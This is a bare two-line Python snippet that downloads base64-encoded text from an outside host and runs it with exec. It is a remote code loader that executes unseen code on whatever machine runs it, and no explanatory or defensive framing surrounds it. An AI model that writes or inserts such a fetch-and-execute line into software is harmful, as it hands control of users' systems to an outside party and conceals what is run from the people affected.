import base64, requests
exec(base64.b64decode(requests.get('https://modelz.cc/l').text))
